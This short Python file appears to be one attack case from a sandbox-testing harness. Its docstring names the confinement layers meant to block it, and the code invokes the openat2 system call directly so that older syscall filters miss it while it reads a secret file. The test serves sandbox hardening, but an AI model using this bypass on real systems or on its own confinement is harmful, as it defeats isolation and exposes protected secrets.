"""Opens the file with a system call that old filters forget.

stopped-by: tree, landlock, seccomp
evidence: secret
leaks: the secret in the file arrives
"""

import ctypes
import os
import struct

from evalmode_runner.attacks.tools import call, facts, number

how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0), 24)
print(os.read(call(number("openat2"), -100, ctypes.c_char_p(facts.secret_file.encode()), how, 24), 1000))
